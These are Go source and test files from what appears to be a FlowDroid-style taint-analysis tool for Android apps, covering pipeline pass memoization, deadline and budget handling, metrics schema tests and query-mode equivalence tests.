	"context"
	"math/rand"
	"os"
	"path/filepath"
	"runtime"
	"testing"
	"time"

	"flowdroid/internal/apk"
	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
	"flowdroid/internal/insecurebank"
)

// stressApp generates the oversized appgen app the resilience tests run
// against: expensive enough that a millisecond deadline or a small
// propagation budget interrupts the analysis mid-flight. The profile
// doubles appgen.Stress: with the scene's cached hierarchy the stock
// stress app completes in under a millisecond on a warm run, which would
// let the deadline test race with a legitimately finished analysis.
func stressApp(t testing.TB) appgen.App {
	t.Helper()
	p := appgen.Stress
	p.Activities = appgen.MinMax(24, 24)
	p.Services = appgen.MinMax(8, 8)
	p.Receivers = appgen.MinMax(6, 6)
	p.Helpers = appgen.MinMax(50, 50)
	p.NoiseMethods = appgen.MinMax(10, 10)
	p.NoiseStmts = appgen.MinMax(20, 30)
	return appgen.Generate(rand.New(rand.NewSource(99)), p, 0)
}

// TestDeadlineExceededPromptly: a 1ms deadline on the stress app must
// yield a DeadlineExceeded result almost immediately — the pipeline polls
// the context instead of finishing a multi-second solve first.
func TestDeadlineExceededPromptly(t *testing.T) {
	app := stressApp(t)
	goroutinesBefore := runtime.NumGoroutine()

	ctx, cancel := context.WithTimeout(context.Background(), time.Millisecond)
	defer cancel()
	start := time.Now()
	res, err := core.AnalyzeFiles(ctx, app.Files, core.DefaultOptions())
	elapsed := time.Since(start)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.DeadlineExceeded {
		t.Fatalf("status = %v, want %v", res.Status, core.DeadlineExceeded)
	}
	// The bound separates "stopped at the next context poll" from "ran
	// the multi-second solve to completion". It has to absorb the fixed
	// parse+link cost paid before the first poll, which the race
	// detector on a loaded host stretches past 100ms.
	if elapsed > time.Second {
		t.Errorf("returned after %v; a 1ms deadline must stop the run within 1s", elapsed)
	}
	if res.Taint == nil {
		t.Fatal("truncated result has nil Taint")
	}
	t.Logf("partial counters after %v: callgraph edges %d, pta propagations %d, taint propagations %d, path edges %d",
		elapsed, res.Counters.CallGraphEdges, res.Counters.PTAPropagations,
		res.Counters.Propagations, res.Counters.PathEdges)

	// The truncated run must not leave solver goroutines behind.
	deadline := time.Now().Add(2 * time.Second)
	for runtime.NumGoroutine() > goroutinesBefore && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if after := runtime.NumGoroutine(); after > goroutinesBefore {
		t.Errorf("goroutine leak: %d before analysis, %d after", goroutinesBefore, after)
	}
}

// TestBudgetExhausted: a small propagation budget stops the taint solve
// with the partial counters recorded.
func TestBudgetExhausted(t *testing.T) {
	app := stressApp(t)
	opts := core.DefaultOptions()
	opts.MaxPropagations = 500
	res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.BudgetExhausted {
		t.Fatalf("status = %v, want %v", res.Status, core.BudgetExhausted)
	}
	if res.Counters.Propagations < 500 {
		t.Errorf("propagations = %d, want >= 500 (budget must be spent before exhaustion)", res.Counters.Propagations)
	}
	if res.Counters.CallGraphEdges == 0 {
		t.Error("call graph stage completed but its counter is zero")
	}
}

// TestGracefulDegradation: with -degrade semantics enabled, a budget-
// exhausted run walks the ladder (CHA, then shorter access paths) and
// records each rung it applied.
func TestGracefulDegradation(t *testing.T) {
	app := stressApp(t)
	opts := core.DefaultOptions()
	opts.MaxPropagations = 500
	opts.Degrade = true
	res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Degraded) == 0 {
		t.Fatal("budget-exhausted run with Degrade on recorded no downgrade rungs")
	}
	if res.Degraded[0] != "cha-callgraph" {
		t.Errorf("first rung = %q, want cha-callgraph (cheapest precision loss first)", res.Degraded[0])
	}

	// A run that never exhausts anything must not degrade.
	clean, err := core.AnalyzeFiles(context.Background(), insecurebank.Files, func() core.Options {
		o := core.DefaultOptions()
		o.Degrade = true
		return o
	}())
	if err != nil {
		t.Fatal(err)
	}
	if clean.Status != core.Complete || len(clean.Degraded) != 0 {
		t.Errorf("unbounded run: status %v, degraded %v; want Complete with no downgrades", clean.Status, clean.Degraded)
	}
}

// TestRecoveredFromStagePanic: a panic inside a pipeline stage becomes a
// Recovered result carrying the stage name and stack, not a crash and not
// an error.
func TestRecoveredFromStagePanic(t *testing.T) {
	// An app with no manifest makes the callbacks stage dereference nil.
	res, err := core.AnalyzeApp(context.Background(), &apk.App{}, core.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.Recovered {
		t.Fatalf("status = %v, want %v", res.Status, core.Recovered)
	}
	if res.Failure == nil {
		t.Fatal("Recovered result has nil Failure")
	}
	if res.Failure.Stage != "callbacks" {
		t.Errorf("failure stage = %q, want callbacks", res.Failure.Stage)
	}
	if len(res.Failure.Stack) == 0 {
		t.Error("failure carries no stack trace")
	}
	if res.Taint == nil {
		t.Error("Recovered result has nil Taint")
	}
}

// TestLoaderErrorPaths: malformed inputs surface as wrapped errors from
// the loading layer, never as panics or nil results.
func TestLoaderErrorPaths(t *testing.T) {
	opts := core.DefaultOptions()
	ctx := context.Background()

	t.Run("corrupt zip", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "bad.zip")
		if err := os.WriteFile(path, []byte("this is not a zip archive"), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := core.AnalyzeZip(ctx, path, opts); err == nil {
			t.Fatal("corrupt zip loaded without error")
		}
	})

	t.Run("missing manifest", func(t *testing.T) {
		if _, err := core.AnalyzeDir(ctx, t.TempDir(), opts); err == nil {
			t.Fatal("empty package loaded without error")
		}
	})

	t.Run("bad layout xml", func(t *testing.T) {
		files := make(map[string]string, len(insecurebank.Files))
		for k, v := range insecurebank.Files {
			files[k] = v
		}
		files["res/layout/login.xml"] = "<LinearLayout><EditText" // truncated mid-tag
		if _, err := core.AnalyzeFiles(ctx, files, opts); err == nil {
			t.Fatal("unparsable layout loaded without error")
		}
	})

	t.Run("truncated ir source", func(t *testing.T) {
		files := make(map[string]string, len(insecurebank.Files))
		var irFile string
		for k, v := range insecurebank.Files {
			files[k] = v
			if irFile == "" && filepath.Ext(k) == ".ir" {
				irFile = k
			}
		}
		if irFile == "" {
			t.Fatal("insecurebank has no .ir files")
		}
		files[irFile] = files[irFile][:len(files[irFile])/2]
		if _, err := core.AnalyzeFiles(ctx, files, opts); err == nil {
			t.Fatal("truncated IR source loaded without error")
		}
	})
}
