package core_test

// Golden-file schema test for the -metrics JSON surface: the set of
// metric names each section of the snapshot exposes after a full
// pipeline run is pinned in testdata/metrics_schema.golden. Values are
// deliberately excluded — timings vary run to run — but the *names* are
// a contract: renaming or dropping one silently breaks every dashboard
// and script consuming the snapshot, which is exactly what this test
// makes loud. Refresh after an intentional change with:
//
//	UPDATE_GOLDEN=1 go test ./internal/core -run MetricsSnapshotSchema

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"flowdroid/internal/core"
	"flowdroid/internal/metrics"
	"flowdroid/internal/testapps"
)

const metricsGolden = "testdata/metrics_schema.golden"

// schemaOf reduces a snapshot to its shape: section → sorted key names.
func schemaOf(s metrics.Snapshot) map[string][]string {
	keys := func(n int, add func(out []string) []string) []string {
		out := add(make([]string, 0, n))
		sort.Strings(out)
		return out
	}
	return map[string][]string{
		"deterministic": keys(len(s.Deterministic), func(out []string) []string {
			for k := range s.Deterministic {
				out = append(out, k)
			}
			return out
		}),
		"schedule": keys(len(s.Schedule), func(out []string) []string {
			for k := range s.Schedule {
				out = append(out, k)
			}
			return out
		}),
		"timings": keys(len(s.Timings), func(out []string) []string {
			for k := range s.Timings {
				out = append(out, k)
			}
			return out
		}),
		"histograms": keys(len(s.Histograms), func(out []string) []string {
			for k := range s.Histograms {
				out = append(out, k)
			}
			return out
		}),
	}
}

func TestMetricsSnapshotSchema(t *testing.T) {
	rec := metrics.New()
	opts := core.DefaultOptions()
	// Two workers are pinned so the schedule section's per-worker keys
	// (taint.worker<i>.drained) are stable regardless of the host.
	opts.Taint.Workers = 2
	res, err := core.AnalyzeFiles(metrics.Into(context.Background(), rec), testapps.LeakageApp, opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.Complete {
		t.Fatalf("status %v, want Complete", res.Status)
	}

	got, err := json.MarshalIndent(schemaOf(rec.Snapshot()), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got = append(got, '\n')

	if os.Getenv("UPDATE_GOLDEN") != "" {
		if err := os.MkdirAll(filepath.Dir(metricsGolden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(metricsGolden, got, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %s", metricsGolden)
		return
	}

	want, err := os.ReadFile(metricsGolden)
	if err != nil {
		t.Fatalf("%v (refresh with UPDATE_GOLDEN=1 go test ./internal/core -run MetricsSnapshotSchema)", err)
	}
	if string(got) != string(want) {
		t.Errorf("metrics snapshot schema drifted from %s.\ngot:\n%s\nwant:\n%s\nIf the change is intentional, refresh the golden file with UPDATE_GOLDEN=1.",
			metricsGolden, got, want)
	}
}

// TestSpanSumMatchesStageTimes: the per-pass spans must account for the
// run's reported wall time — their total sits within measurement noise
// of SetupTime+TaintTime. A generous lower bound guards against spans
// silently not covering a stage; the upper bound guards against
// double-charging (a pass timed under two spans).
func TestSpanSumMatchesStageTimes(t *testing.T) {
	rec := metrics.New()
	res, err := core.AnalyzeFiles(metrics.Into(context.Background(), rec), testapps.LeakageApp, core.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.Complete {
		t.Fatalf("status %v, want Complete", res.Status)
	}
	var spanUS int64
	for name, ts := range rec.Snapshot().Timings {
		if strings.HasPrefix(name, "pipeline.") {
			spanUS += ts.TotalUS
		}
	}
	totalUS := (res.SetupTime + res.TaintTime).Microseconds()
	if totalUS <= 0 {
		t.Fatalf("SetupTime+TaintTime = %v+%v, want positive", res.SetupTime, res.TaintTime)
	}
	// The spans live inside the stage timers, separated only by map
	// lookups; 2/3 is far below anything but a missing span, and 110%
	// absorbs rounding on a fast run.
	if spanUS < totalUS*2/3 || spanUS > totalUS*11/10+1 {
		t.Errorf("pipeline spans sum to %dµs, want within noise of SetupTime+TaintTime = %dµs", spanUS, totalUS)
	}
}
