package core

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"time"

	"flowdroid/internal/apk"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/callgraph"
	"flowdroid/internal/cfg"
	"flowdroid/internal/cone"
	"flowdroid/internal/constprop"
	"flowdroid/internal/ir"
	"flowdroid/internal/irlint"
	"flowdroid/internal/lifecycle"
	"flowdroid/internal/metrics"
	"flowdroid/internal/pta"
	"flowdroid/internal/scene"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/summarystore"
	"flowdroid/internal/taint"
)

// PassStat counts how often a pipeline pass actually executed (Runs) and
// how often its memoized artifact was reused instead (Hits). The degrade
// ladder is the main consumer: an access-path-length rung must re-run
// only the taint pass, so every upstream pass records a hit.
type PassStat struct {
	Runs int `json:"runs"`
	Hits int `json:"hits"`
}

// PassStats maps pass names (scene, sourcesink, verify, constprop, cone,
// callbacks, lifecycle, callgraph, icfg, summaries, taint) to their
// run/hit counters.
type PassStats map[string]PassStat

// TotalRuns sums the Runs of every pass.
func (ps PassStats) TotalRuns() int {
	n := 0
	for _, st := range ps {
		n += st.Runs
	}
	return n
}

// TotalHits sums the Hits of every pass.
func (ps PassStats) TotalHits() int {
	n := 0
	for _, st := range ps {
		n += st.Hits
	}
	return n
}

// String renders the stats as "pass runs/hits" pairs in name order.
func (ps PassStats) String() string {
	names := make([]string, 0, len(ps))
	for n := range ps {
		names = append(names, n)
	}
	sort.Strings(names)
	out := ""
	for i, n := range names {
		if i > 0 {
			out += ", "
		}
		out += fmt.Sprintf("%s %d run(s)/%d hit(s)", n, ps[n].Runs, ps[n].Hits)
	}
	return out
}

// artifact is one memoized pass product. key fingerprints the
// configuration the value was built under; a run whose key matches reuses
// the value, a differing key invalidates and rebuilds. built is cleared
// when a pass was cut short (context expiry) so a partial artifact is
// never reused.
type artifact[T any] struct {
	built bool
	key   string
	val   T
}

// pipeline owns the per-app analysis state shared across attempts: the
// scene (cached program model) plus the memoized artifacts of every
// pass. AnalyzeApp creates one pipeline and re-runs it down the degrade
// ladder; only passes whose configuration a rung actually changes are
// re-executed. This is the explicit pass graph (Figure 4 of the paper)
// with its dependency keys:
//
//	scene      : program identity (built once, refreshed after dummy main)
//	sourcesink : Options.SourceSinkRules + query fingerprint
//	verify     : Options.LintEnable/LintDisable + SourceSinkRules + query
//	constprop  : program identity (runs once iff Options.ResolveReflection;
//	             the flag is fixed for a pipeline's lifetime — the degrade
//	             ladder never toggles it — so it needs no key)
//	cone       : query fingerprint + SourceSinkRules (query mode only)
//	callbacks  : no configuration (discovery is query-independent)
//	lifecycle  : Options.Lifecycle including the cone's skip set
//	callgraph  : Options.UseCHA + the entry method it grows from
//	icfg       : the call-graph artifact it stitches
//	summaries  : the summary fingerprint + the call graph it hashed
//	taint      : always runs (it is the pass being retried)
//
// Every artifact a sink query can change carries the query fingerprint in
// its key (directly, or through the lifecycle skip set), so two queries
// against the same loaded app never cross-contaminate.
//
// The taint configuration — including Taint.Workers — is deliberately
// absent from every artifact key: the worker count only changes how the
// solve is scheduled, never what any upstream pass computes, so changing
// it between runs on the same pipeline reuses every artifact
// (fingerprint-neutral).
type pipeline struct {
	app *apk.App
	sc  *scene.Scene

	stats map[string]*PassStat
	times map[string]time.Duration

	// rec is the run's metrics recorder (nil when metrics are disabled);
	// run() refreshes it from the context on every attempt.
	rec *metrics.Recorder

	verify artifact[*irlint.Result]
	refl   artifact[reflArtifact]

	cbs   artifact[*callbacks.Result]
	cn    artifact[*cone.Cone]
	entry artifact[*ir.Method]
	graph artifact[cgArtifact]
	icfg  artifact[*cfg.ICFG]
	mgr   artifact[*sourcesink.Manager]
	sums  artifact[*summarystore.Session]
}

// clickHandlers collects each layout's declaratively registered click
// handlers, keyed by layout name, for the verifier's registrations
// analyzer.
func clickHandlers(app *apk.App) map[string][]string {
	out := make(map[string][]string)
	for name, l := range app.Layouts {
		if hs := l.ClickHandlers(); len(hs) > 0 {
			out[name] = hs
		}
	}
	return out
}

// cgArtifact is the call-graph pass product: the graph plus the
// points-to effort spent building it (zero under CHA).
type cgArtifact struct {
	graph    *callgraph.Graph
	ptaProps int
}

// reflArtifact is the constant-propagation pass product: the classified
// reflective sites (with the soundness report) plus the materialized
// reflective call edges every downstream graph consumer folds in.
type reflArtifact struct {
	res   *constprop.Result
	edges map[ir.Stmt][]*ir.Method
}

// summaryFingerprint digests every configuration input that changes the
// taint solver's transfer functions or seeds, scoping the persistent
// summary store's namespace: two runs may only share summaries when they
// would compute identical per-method-context facts. Schedule-only knobs
// (Workers, MaxPropagations, MaxLeaks) are deliberately excluded — they
// change how much is explored, never what a completed run computes.
// The store format version is folded in so a scheme change invalidates
// wholesale, and the layout password controls are included because they
// synthesize per-app source rules.
func summaryFingerprint(app *apk.App, opts Options, qfp string) string {
	h := sha256.New()
	fmt.Fprintf(h, "v%d\n", summarystore.FormatVersion)
	fmt.Fprintf(h, "rules:%s\n", opts.SourceSinkRules)
	fmt.Fprintf(h, "query:%s\n", qfp)
	tc := opts.Taint
	fmt.Fprintf(h, "taint:%d,%t,%t,%t,%t,%t,%t,%t\n",
		tc.APLength, tc.EnableAliasing, tc.EnableActivation, tc.InjectContext,
		tc.FieldSensitive, tc.FlowSensitive, tc.ArrayIndexSensitive,
		tc.StringCarriers)
	fmt.Fprintf(h, "wrapper:%s\n", tc.Wrapper.Fingerprint())
	fmt.Fprintf(h, "cha:%t\n", opts.UseCHA)
	// Reflection resolution changes which call edges exist — and hence
	// which callee facts a method summary encodes — so summaries recorded
	// with and without it are never interchangeable.
	fmt.Fprintf(h, "reflect:%t\n", opts.ResolveReflection)
	fmt.Fprintf(h, "lifecycle:%+v\n", opts.Lifecycle)
	var layouts []string
	for name, l := range app.Layouts {
		for _, c := range l.PasswordControls() {
			layouts = append(layouts, name+"/"+c.Kind+"#"+c.ID)
		}
	}
	sort.Strings(layouts)
	for _, l := range layouts {
		fmt.Fprintf(h, "layout:%s\n", l)
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

func newPipeline(app *apk.App) *pipeline {
	return &pipeline{
		app:   app,
		stats: make(map[string]*PassStat),
		times: make(map[string]time.Duration),
	}
}

func (pl *pipeline) stat(name string) *PassStat {
	st := pl.stats[name]
	if st == nil {
		st = &PassStat{}
		pl.stats[name] = st
	}
	return st
}

// ran opens one pass execution: it bumps the run counter (and its
// metrics mirror) up front — so a pass that panics still counts as an
// attempted run — and returns a closer that charges the elapsed build
// time to the pass and ends its trace span. The closer is safe under
// panic when deferred.
func (pl *pipeline) ran(name string) func() {
	pl.stat(name).Runs++
	pl.rec.Counter("pipeline."+name+".runs", metrics.Deterministic).Add(1)
	sp := pl.rec.StartSpan("pipeline." + name)
	bstart := time.Now()
	return func() {
		pl.times[name] += time.Since(bstart)
		sp.End()
	}
}

// hit records one memo reuse.
func (pl *pipeline) hit(name string) {
	pl.stat(name).Hits++
	pl.rec.Counter("pipeline."+name+".hits", metrics.Deterministic).Add(1)
}

// snapshot copies the counters into an exported PassStats.
func (pl *pipeline) snapshot() PassStats {
	out := make(PassStats, len(pl.stats))
	for n, st := range pl.stats {
		out[n] = *st
	}
	return out
}

// timesSnapshot copies the per-pass build times.
func (pl *pipeline) timesSnapshot() map[string]time.Duration {
	out := make(map[string]time.Duration, len(pl.times))
	for n, d := range pl.times {
		out[n] = d
	}
	return out
}

// memo returns the cached artifact when its key matches, otherwise runs
// build and caches the result. Errors and panics leave the artifact
// unbuilt. A build is wrapped in a "pipeline.<name>" metrics span and
// its wall time is charged to the pass; a hit costs (and records)
// nothing but the hit counter.
func memo[T any](pl *pipeline, name, key string, a *artifact[T], build func() (T, error)) (T, error) {
	if a.built && a.key == key {
		pl.hit(name)
		return a.val, nil
	}
	a.built = false
	v, err := func() (T, error) {
		defer pl.ran(name)()
		return build()
	}()
	if err != nil {
		var zero T
		return zero, err
	}
	a.built, a.key, a.val = true, key, v
	return v, nil
}

// run is one pipeline attempt under one configuration, reusing every
// artifact the configuration does not invalidate. Panics in any pass are
// converted into a Recovered result carrying the passes that finished
// before the panic.
func (pl *pipeline) run(ctx context.Context, opts Options) (res *Result, err error) {
	start := time.Now()
	pl.rec = metrics.From(ctx)
	res = &Result{App: pl.app, Status: Complete, Taint: &taint.Results{}}
	stage := "scene"
	// tstart is zero until the taint stage begins; attribute() charges
	// elapsed time to the stage that was actually running, so a panic or
	// deadline during the solve lands in TaintTime, not SetupTime.
	var tstart time.Time
	attribute := func() {
		if !tstart.IsZero() {
			res.SetupTime = tstart.Sub(start)
			res.TaintTime = time.Since(tstart)
		} else {
			res.SetupTime = time.Since(start)
		}
	}
	defer func() {
		if r := recover(); r != nil {
			res.Status = Recovered
			res.Failure = &Failure{Stage: stage, Value: r, Stack: stackTrace()}
			attribute()
			res.Passes = pl.snapshot()
			res.PassTimes = pl.timesSnapshot()
			err = nil
		}
	}()
	truncated := func() *Result {
		res.Status = DeadlineExceeded
		attribute()
		res.Passes = pl.snapshot()
		res.PassTimes = pl.timesSnapshot()
		return res
	}

	// Scene: the shared program model, built once per app.
	if pl.sc == nil {
		done := pl.ran("scene")
		pl.sc = scene.New(pl.app.Program)
		done()
	} else {
		pl.hit("scene")
	}

	// Source/sink manager: built early because the verify and cone passes
	// both consume it. The artifact key carries the query fingerprint —
	// a restricted manager answers sink queries differently, so two
	// queries over the same rules never share one.
	stage = "sourcesink"
	qfp := opts.Query.Fingerprint()
	mgr, err := memo(pl, "sourcesink", opts.SourceSinkRules+"\x00"+qfp, &pl.mgr,
		func() (*sourcesink.Manager, error) {
			m, err := manager(pl.sc, opts)
			if err != nil {
				return nil, err
			}
			m.AttachApp(pl.app)
			if !opts.Query.IsAll() {
				if err := m.RestrictSinks(opts.Query.Sinks); err != nil {
					return nil, fmt.Errorf("core: %w", err)
				}
			}
			return m, nil
		})
	if err != nil {
		return nil, err
	}

	// Verify: the IR lint pass, gating the solvers on a semantically
	// valid program. Error diagnostics end the run here — the solvers
	// assume invariants (resolvable branch targets, registered locals)
	// that a defective program would violate, typically by panicking deep
	// inside a flow function. Runs before dummy-main generation so
	// synthetic lifecycle code is never linted.
	if opts.Lint {
		stage = "verify"
		lres, err := memo(pl, "verify", opts.LintEnable+"|"+opts.LintDisable+"|"+opts.SourceSinkRules+"|"+qfp, &pl.verify,
			func() (*irlint.Result, error) {
				ans, err := irlint.Select(opts.LintEnable, opts.LintDisable)
				if err != nil {
					return nil, fmt.Errorf("core: %w", err)
				}
				cfg := irlint.Config{
					Analyzers:     ans,
					Sources:       mgr.Sources(),
					Sinks:         mgr.Sinks(),
					ClickHandlers: clickHandlers(pl.app),
				}
				if mgr.Restricted() {
					cfg.QueriedSinks = mgr.QueriedSinks()
				}
				return irlint.Run(pl.sc, cfg), nil
			})
		if err != nil {
			return nil, err
		}
		res.Lint = lres
		res.Counters.LintErrors = lres.Errors()
		res.Counters.LintWarnings = lres.Warnings()
		if pl.rec != nil {
			pl.rec.Gauge("lint.errors", metrics.Deterministic).Set(int64(lres.Errors()))
			pl.rec.Gauge("lint.warnings", metrics.Deterministic).Set(int64(lres.Warnings()))
		}
		if lres.HasErrors() {
			res.Status = InvalidProgram
			attribute()
			res.Passes = pl.snapshot()
			res.PassTimes = pl.timesSnapshot()
			return res, nil
		}
	}

	// Constprop: interprocedural constant-string propagation plus
	// reflective-edge materialization. Runs before the cone so resolved
	// reflective edges participate in the backward closure like ordinary
	// call edges, and before dummy-main generation so synthetic lifecycle
	// code is never scanned. The pass is program-global and query-
	// independent; its artifact needs no configuration key.
	var reflEdges map[ir.Stmt][]*ir.Method
	if opts.ResolveReflection {
		stage = "constprop"
		ra, err := memo(pl, "constprop", "", &pl.refl, func() (reflArtifact, error) {
			r := constprop.Analyze(ctx, pl.sc)
			if r.Truncated {
				return reflArtifact{res: r}, nil
			}
			edges, err := r.Materialize(pl.app.Program)
			if err != nil {
				return reflArtifact{}, fmt.Errorf("core: %w", err)
			}
			if len(edges) > 0 {
				// Materialization added the bridges class to the program.
				pl.sc.Refresh()
			}
			return reflArtifact{res: r, edges: edges}, nil
		})
		if err != nil {
			return nil, err
		}
		if ctx.Err() != nil || ra.res.Truncated {
			pl.refl.built = false // partial facts must not be reused
			return truncated(), nil
		}
		reflEdges = ra.edges
		res.Soundness = ra.res.Report
		res.Counters.ReflectionResolved = ra.res.Report.ResolvedSites
		res.Counters.ReflectionUnresolved = len(ra.res.Report.Unresolved)
		if pl.rec != nil {
			pl.rec.Gauge("soundness.reflection.resolved", metrics.Deterministic).Set(int64(ra.res.Report.ResolvedSites))
			pl.rec.Gauge("soundness.reflection.unresolved", metrics.Deterministic).Set(int64(len(ra.res.Report.Unresolved)))
		}
	}

	// Cone: the backward reachability cone of the queried sinks, built
	// over app code only (before dummy-main generation — the synthetic
	// lifecycle code never contains sinks, and the cone must not depend
	// on the skip set it feeds).
	var cn *cone.Cone
	if !opts.Query.IsAll() {
		stage = "cone"
		cn, _ = memo(pl, "cone", qfp+"\x00"+opts.SourceSinkRules, &pl.cn,
			func() (*cone.Cone, error) {
				return cone.BuildWithExtra(ctx, pl.sc, mgr, reflEdges), nil
			})
		if ctx.Err() != nil {
			pl.cn.built = false // partial cone must not be reused
			return truncated(), nil
		}
	}

	stage = "callbacks"
	cbs, _ := memo(pl, "callbacks", "", &pl.cbs, func() (*callbacks.Result, error) {
		return callbacks.DiscoverWith(ctx, pl.app, pl.sc), nil
	})
	res.Callbacks = cbs
	if ctx.Err() != nil {
		pl.cbs.built = false // partial discovery must not be reused
		return truncated(), nil
	}

	stage = "lifecycle"
	lopts := opts.Lifecycle
	if cn != nil {
		// Components entirely outside the escape closure cannot influence
		// the queried sinks (static fields are the only cross-component
		// channel) — leave them out of dummy-main modeling. The skip set
		// is part of the lifecycle key, so changing the query regenerates
		// the model.
		var skip []string
		for _, comp := range lifecycle.ModeledComponents(pl.app, lopts) {
			if cn.ComponentSkippable(cbs.EntryPoints(pl.sc, comp)) {
				skip = append(skip, comp.Class)
			}
		}
		sort.Strings(skip)
		lopts.SkipComponents = skip
		res.Counters.ConeMethods = cn.Methods()
		res.Counters.SkippedComponents = len(skip)
		if pl.rec != nil {
			pl.rec.Gauge("cone.skipped_components", metrics.Deterministic).Set(int64(len(skip)))
		}
	}
	entry, err := memo(pl, "lifecycle", fmt.Sprintf("%+v", lopts), &pl.entry,
		func() (*ir.Method, error) {
			// The dummy main may already exist in the program (a previous
			// AnalyzeApp call on the same app); reuse it only when it was
			// generated for the same component skip set — its marker field
			// records the set it encoded.
			if c := pl.app.Program.Class(lifecycle.DummyMainClass); c != nil {
				if m := c.Method("dummyMain", 0); m != nil {
					if lifecycle.SkipFingerprintOf(c) == lopts.SkipFingerprint() {
						return m, nil
					}
					return nil, fmt.Errorf("core: %s was generated under a different sink query; reload the app to analyze it under a new query", lifecycle.DummyMainClass)
				}
			}
			m, err := lifecycle.GenerateWith(pl.app, cbs, pl.sc, lopts)
			if err != nil {
				return nil, fmt.Errorf("core: %w", err)
			}
			// Generation added the dummy-main class to the program.
			pl.sc.Refresh()
			return m, nil
		})
	if err != nil {
		return nil, err
	}
	res.EntryPoint = entry

	stage = "callgraph"
	cgKey := "pta"
	if opts.UseCHA {
		cgKey = "cha"
	}
	// The graph grows from the entry method, so its identity is part of
	// the key: a regenerated dummy main (new query) invalidates the graph.
	cgKey = fmt.Sprintf("%s@%p", cgKey, entry)
	cg, _ := memo(pl, "callgraph", cgKey, &pl.graph, func() (cgArtifact, error) {
		if opts.UseCHA {
			return cgArtifact{graph: callgraph.BuildCHAWithExtra(ctx, pl.sc, reflEdges, entry)}, nil
		}
		p := pta.BuildWithExtra(ctx, pl.sc, reflEdges, entry)
		return cgArtifact{graph: p.Graph, ptaProps: p.Propagations}, nil
	})
	res.CallGraph = cg.graph
	res.Counters.PTAPropagations = cg.ptaProps
	res.Counters.CallGraphEdges = cg.graph.NumEdges()
	if pl.rec != nil {
		pl.rec.Gauge("callgraph.edges", metrics.Deterministic).Set(int64(cg.graph.NumEdges()))
		pl.rec.Gauge("callgraph.reachable", metrics.Deterministic).Set(int64(len(cg.graph.Reachable())))
	}
	if ctx.Err() != nil {
		pl.graph.built = false // partial call graph must not be reused
		return truncated(), nil
	}

	stage = "icfg"
	// The ICFG is valid exactly as long as the graph artifact it
	// stitches; the per-method CFGs inside it are shared via the scene
	// regardless.
	icfg, _ := memo(pl, "icfg", fmt.Sprintf("%s@%p", cgKey, cg.graph), &pl.icfg,
		func() (*cfg.ICFG, error) {
			return cfg.NewICFG(pl.sc, cg.graph), nil
		})

	// Summaries: the persistent-store session for this run, keyed by the
	// configuration fingerprint and the call graph it hashed methods
	// against. A degrade rung that changes the fingerprint (CHA,
	// access-path length) gets its own namespace — its summaries are not
	// interchangeable with the original configuration's.
	var sess *summarystore.Session
	if opts.SummaryStore != nil {
		stage = "summaries"
		sumFP := summaryFingerprint(pl.app, opts, qfp)
		sess, _ = memo(pl, "summaries", fmt.Sprintf("%s@%p", sumFP, cg.graph), &pl.sums,
			func() (*summarystore.Session, error) {
				return opts.SummaryStore.Session(pl.app.Package, sumFP, summarystore.HashMethods(cg.graph)), nil
			})
	}

	stage = "taint"
	tstart = time.Now()
	tc := opts.Taint
	if opts.MaxPropagations > 0 {
		tc.MaxPropagations = opts.MaxPropagations
	}
	if cn != nil {
		tc.Cone = &taint.Cone{
			Relevant:          cn.Relevant,
			Methods:           cn.Methods(),
			SkippedComponents: res.Counters.SkippedComponents,
		}
	}
	if sess != nil {
		tc.Summaries = sess
	}
	tres := func() *taint.Results {
		defer pl.ran("taint")()
		return taint.Analyze(ctx, icfg, mgr, tc, entry)
	}()
	if sess != nil {
		// Write back the summaries a completed run recorded. A flush
		// failure (full disk, permissions) degrades the cache, never the
		// analysis: count it and move on.
		if err := sess.Flush(); err != nil {
			pl.rec.Counter("summary.store.flush_errors", metrics.Schedule).Add(1)
		}
	}
	res.Taint = tres
	attribute()
	countersFromTaint(&res.Counters, tres.Stats)
	switch tres.Status {
	case taint.Cancelled:
		res.Status = DeadlineExceeded
	case taint.BudgetExhausted:
		res.Status = BudgetExhausted
	case taint.LeakLimitReached:
		res.Status = LeakLimitReached
	}
	res.Passes = pl.snapshot()
	res.PassTimes = pl.timesSnapshot()
	return res, nil
}
