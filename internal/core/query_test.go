package core_test

// TestQueryEquivalence is the acceptance oracle of the demand-driven
// query mode: for any query Q, the query-mode canonical report must be
// byte-identical to the whole-program report filtered to Q's sinks. The
// suites cover the three app shapes the pipeline handles — DroidBench
// (Android lifecycle micro benchmarks), SecuriBench Micro (plain-Java
// servlet entry points) and a seeded appgen corpus (multi-component apps
// with cross-component flows) — each at worker counts 1, 2 and 8.

import (
	"bytes"
	"context"
	"testing"

	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
	"flowdroid/internal/droidbench"
	"flowdroid/internal/ir"
	"flowdroid/internal/securibench"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/taint"
)

var queryWorkers = []int{1, 2, 8}

// matchesQuery is the filtering side of the contract: does the leak's
// matched sink rule belong to the query?
func matchesQuery(q core.Query) func(sourcesink.Sink) bool {
	return func(s sourcesink.Sink) bool {
		for _, sel := range q.Sinks {
			if s.MatchesSelector(sel) {
				return true
			}
		}
		return false
	}
}

// filteredJSON renders the whole-program results filtered to the query.
func filteredJSON(t *testing.T, whole *taint.Results, q core.Query) []byte {
	t.Helper()
